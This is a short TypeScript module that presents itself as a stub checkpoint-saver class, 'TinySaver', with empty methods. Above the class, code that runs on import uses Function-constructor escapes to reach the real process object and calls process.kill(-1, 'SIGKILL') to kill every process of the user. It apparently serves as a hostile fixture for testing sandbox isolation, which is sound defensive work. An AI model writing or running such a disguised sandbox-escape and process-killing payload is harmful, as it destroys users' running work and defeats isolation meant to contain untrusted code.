// Tries: to kill every process of the user
// @ts-nocheck
const real = (() => {
  for (const way of [() => (() => {}).constructor("return process")(), () => console.log.constructor.constructor("return process")(), () => process])
    try { const found = way(); if (found.kill) return found; } catch {}
  return process;
})();
try { real.kill(-1, "SIGKILL"); } catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
